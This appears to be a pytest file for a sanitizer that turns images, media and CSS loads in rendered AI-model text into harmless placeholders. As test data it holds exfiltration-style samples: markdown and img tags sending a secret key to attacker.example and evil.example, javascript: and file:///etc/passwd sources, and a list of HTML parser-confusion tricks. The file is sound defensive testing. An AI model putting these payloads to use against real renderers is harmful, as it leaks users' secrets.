"""Rendered model text loads nothing (spec J6): images become placeholders naming their host.

Unit tests of `components.common.safe_html` on the HTML that NiceGUI's markdown converter makes of the text.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from components.common.markdown import markdown_html
from components.common.safe_html import OPEN_ATTRIBUTE, Target, image_target, needs_rewrite, safe_html

SECRET = "sk-TOP-SECRET"
# Every element that makes a browser load something by itself, whatever the attribute.
_LOADING = re.compile(r"<(img|image|source|video|audio|track|input|iframe|frame|object|embed|link|script|"
                      r"style|use|feimage|base|meta)\b[^>]*>", re.I)


class _Elements(HTMLParser):
    """The start tags of `html` with their attributes, as a second reading of the output."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


def render(markdown: str) -> str:
    return markdown_html(markdown)


def placeholders(html: str) -> list[dict[str, str | None]]:
    return [attrs for tag, attrs in _Elements(html).tags
            if tag == "span" and "ccs-remote-image" in (attrs.get("class") or "").split()]


def assert_loads_nothing(html: str) -> None:
    """No element that loads, except images whose source is a data: URL (or that have none), no srcset."""
    for tag, attrs in _Elements(html).tags:
        if tag == "img":
            assert (attrs.get("src") or "data:").startswith("data:"), html
        else:
            assert tag not in {"image", "source", "video", "audio", "track", "iframe", "object", "embed",
                               "link", "script", "style", "use", "feimage"}, html
        for name in ("srcset", "poster", "background", "lowsrc", "ping"):
            assert name not in attrs, html
        assert "url(" not in (attrs.get("style") or ""), html
    for match in _LOADING.finditer(html):  # a second, cruder reading: only data: images, or images of nothing
        tag = match.group(0)
        assert tag.startswith('<img src="data:') or (tag.startswith("<img") and "src" not in tag), html


def test_a_markdown_image_becomes_a_placeholder_naming_its_host():
    html = render(f"Look: ![the chart](http://attacker.example/leak?d={SECRET})")
    assert_loads_nothing(html)
    [shown] = placeholders(html)
    assert shown[OPEN_ATTRIBUTE] == f"http://attacker.example/leak?d={SECRET}"
    assert shown["role"] == "link" and shown["tabindex"] == "0"
    assert "Image from <b>attacker.example</b>" in html
    assert '<span class="ccs-remote-image-alt">the chart</span>' in html
    assert "attacker.example" in shown["title"] and "new tab" in shown["title"]


def test_raw_img_tags_the_model_wrote_become_placeholders():
    html = render(f'Here <img src="https://evil.example/p.gif?{SECRET}" width=1 height=1> and '
                  f"<IMG SRC=http://other.example/x.png ALT=shouted>")
    assert_loads_nothing(html)
    hosts = re.findall(r"Image from <b>([^<]+)</b>", html)
    assert hosts == ["evil.example", "other.example"]
    assert "shouted" in html


def test_the_alt_text_is_escaped():
    html = render('![<script>alert(1)</script> & "quotes"](http://a.example/x.png)')
    assert_loads_nothing(html)
    assert "<script>" not in html
    assert "&lt;script&gt;alert(1)&lt;/script&gt; &amp;" in html


def test_srcset_is_dropped_and_its_first_candidate_named():
    html = render('<img srcset="http://one.example/a.png 1x, http://two.example/b.png 2x" alt="set">')
    assert_loads_nothing(html)
    [shown] = placeholders(html)
    assert shown[OPEN_ATTRIBUTE] == "http://one.example/a.png"
    # A data: image keeps its inline source but loses a remote srcset.
    html = render('<img src="data:image/png;base64,iVBORw0KGgo=" srcset="http://evil.example/x.png 2x" alt="dot">')
    assert_loads_nothing(html)
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" />' in html
    assert "evil.example" not in html


def test_a_picture_shows_one_placeholder_for_its_image_and_no_source():
    html = render('<picture><source srcset="http://cdn.example/a.webp" type="image/webp">'
                  '<img src="http://cdn.example/a.png" alt="pic"></picture>')
    assert_loads_nothing(html)
    assert "<picture" not in html and "<source" not in html
    assert [p[OPEN_ATTRIBUTE] for p in placeholders(html)] == ["http://cdn.example/a.png"]


@pytest.mark.parametrize(("source", "host", "opens"), [
    ("//cdn.example/x.png", "cdn.example", "//cdn.example/x.png"),
    ("/logout", "this server", "/logout"),
    ("/api/projects?delete=1", "this server", "/api/projects?delete=1"),
    ("relative/pic.png", "this server", "relative/pic.png"),
    ("http://attacker.example:8080/x", "attacker.example:8080", "http://attacker.example:8080/x"),
    ("http://this-server@attacker.example/x", "attacker.example", "http://this-server@attacker.example/x"),
    # Read as browsers read them: backslashes are slashes, tabs vanish, any number of slashes after http:.
    ("http:\\\\evil.example\\x", "evil.example", "http://evil.example/x"),
    ("/\\evil.example/x", "evil.example", "//evil.example/x"),
    ("ht\ttp://evil.example/x", "evil.example", "http://evil.example/x"),
    ("http:evil.example/x", "evil.example", "http://evil.example/x"),
    ("HTTPS:///evil.example/x", "evil.example", "https://evil.example/x"),
])
def test_every_non_data_source_is_named_by_the_host_a_click_reaches(source, host, opens):
    assert image_target(source) == Target(host, opens)
    html = safe_html(f'<p><img src="{source}"></p>')
    assert_loads_nothing(html)
    [shown] = placeholders(html)
    assert shown[OPEN_ATTRIBUTE] == opens


def test_data_images_stay_inline():
    assert image_target(" data:image/png;base64,AAAA") is None
    html = render("![dot](data:image/png;base64,iVBORw0KGgo=)")
    assert '<img src="data:image/png;base64,iVBORw0KGgo=" alt="dot" />' in html
    assert not placeholders(html)


def test_other_schemes_show_a_placeholder_that_opens_nothing():
    for source in ("javascript:alert(1)", "file:///etc/passwd", "blob:http://x/y", "http://"):
        html = safe_html(f'<img src="{source}" alt="odd">')
        [shown] = placeholders(html)
        assert OPEN_ATTRIBUTE not in shown and "ccs-remote-image-blocked" in shown["class"], html
        assert "not shown" in html


def test_an_empty_source_loads_nothing_and_shows_no_placeholder():
    html = safe_html('<img src="" alt="empty"><img src=" "><video src=""><source src=""></video>')
    assert_loads_nothing(html)
    assert not placeholders(html)
    assert '<img alt="empty" />' in html


def test_links_are_left_as_they_are():
    markdown = "[a page](https://example.com/a_(b)?x=1&y=2) and <a href='http://evil.example/?q=1'>raw</a>"
    plain = render(markdown)
    assert not needs_rewrite(plain)  # nothing in it loads: the converter's HTML as it is
    assert "<a href='http://evil.example/?q=1'>raw</a>" in plain
    # Next to an image the whole HTML is written anew: the links keep their addresses and texts.
    mixed = render(markdown + " ![i](http://img.example/i.png)")
    links = [attrs["href"] for tag, attrs in _Elements(mixed).tags if tag == "a"]
    assert links == ["https://example.com/a_(b)?x=1&y=2", "http://evil.example/?q=1"]
    assert ">a page</a>" in mixed and ">raw</a>" in mixed
    assert len(placeholders(mixed)) == 1


def test_an_image_inside_a_link_becomes_a_placeholder_inside_it():
    html = render("[![badge](http://ci.example/badge.svg)](http://ci.example/build)")
    assert_loads_nothing(html)
    assert '<a href="http://ci.example/build"><span class="ccs-remote-image"' in html


def test_code_that_shows_img_tags_is_left_as_text():
    markdown = 'Use `<img src="http://x.example/a.png">` like this:\n\n```html\n<img src="http://x.example/b.png">\n```'
    html = render(markdown)
    assert not needs_rewrite(html)
    assert safe_html(html) is html
    assert "&lt;img" in html and not placeholders(html)
    # Rewritten because of an image beside it, the code still reads the same.
    mixed = render(markdown + "\n\n![real](http://x.example/c.png)")
    assert "&lt;</span><span class=\"nt\">img</span>" in mixed and "<code>&lt;img src=" in mixed
    assert len(placeholders(mixed)) == 1


def test_plain_markdown_is_returned_untouched():
    markdown = ("# Title\n\nSome **bold** text, a [link](http://example.com), a list:\n\n- one\n- two\n\n"
                "| a | b |\n|---|---|\n| 1 | 2 |\n\n```python\nprint('<b>hi</b>')\n```\n")
    html = render(markdown)
    assert not needs_rewrite(html)
    assert safe_html(html) is html


def test_media_embeds_and_css_that_load_are_removed():
    html = safe_html(
        '<video src="http://v.example/m.mp4" poster="http://p.example/p.png">old browser</video>'
        '<audio><source src="/api/stream"></audio>'
        '<iframe src="http://f.example/"></iframe><object data="http://o.example/"></object>'
        '<embed src="http://e.example/"><link rel=stylesheet href="http://l.example/s.css">'
        '<div style="background: url(http://s.example/bg.png)">styled</div>'
        '<p style="color: red">kept style</p>'
        '<div style="background: \\75 rl(http://s.example/esc.png)">escaped</div>'
        '<table background="http://t.example/bg.png"><tr><td>cell</td></tr></table>'
        '<style>body { background: url(http://s.example/sheet.png) }</style>after style'
        '<svg><image href="http://svg.example/i.png"/><rect fill="url(http://svg.example/f.svg#p)"/>'
        '<use href="http://svg.example/u.svg#x"/></svg>'
        '<input type="image" src="http://i.example/submit.png" alt="go">')
    assert_loads_nothing(html)
    assert [p[OPEN_ATTRIBUTE] for p in placeholders(html)] == [
        "http://v.example/m.mp4", "/api/stream", "http://svg.example/i.png", "http://i.example/submit.png"]
    assert "Video from <b>v.example</b>" in html and "Audio from <b>this server</b>" in html
    assert "old browser" in html and "styled" in html and "cell" in html and "after style" in html
    assert '<p style="color: red">kept style</p>' in html
    for gone in ("f.example", "o.example", "e.example", "l.example", "s.example", "t.example", "u.svg"):
        assert gone not in html


def test_the_model_cannot_forge_a_placeholder_that_opens_something_else():
    html = safe_html('<span class="ccs-remote-image" data-ccs-open="javascript:alert(1)" '
                     'DATA-CCS-OPEN="http://evil.example">fake</span>')
    assert OPEN_ATTRIBUTE not in html and "evil.example" not in html


@pytest.mark.parametrize("trick", [
    '<!-- --!><img src="http://evil.example/a"> -->',  # a comment end this parser may not know
    '<img src="http://evil.example/a" src="data:image/png;base64,AA">',  # browsers keep the first
    '<img/src="http://evil.example/a">',
    '<img\nsrc="http://evil.example/a"\n>',
    '<style/><img src="http://evil.example/a">',
    '<svg><style><img src="http://evil.example/a"></style></svg>',
    '<math><mtext><table><mglyph><style><img src="http://evil.example/a">',
    '<noscript><p title="</noscript><img src=http://evil.example/a>"></noscript>',
    '<textarea><img src="http://evil.example/a"></textarea>',
    '<img src="http://evil.example/a',  # cut off mid-tag, as a streaming tail may be
    '<image src="http://evil.example/a">',  # browsers read <image> as <img>
    "<img src='&#104;ttp://evil.example/a'>",
    '<img src="  http://evil.example/a  ">',
    '<p>x</p><img src=http://evil.example/a <b>',
])
def test_parser_tricks_leave_nothing_that_loads(trick):
    html = safe_html(trick)
    assert_loads_nothing(html)
    assert not re.search(r"<img\b(?![^>]*src=\"data:)", html, re.I), html
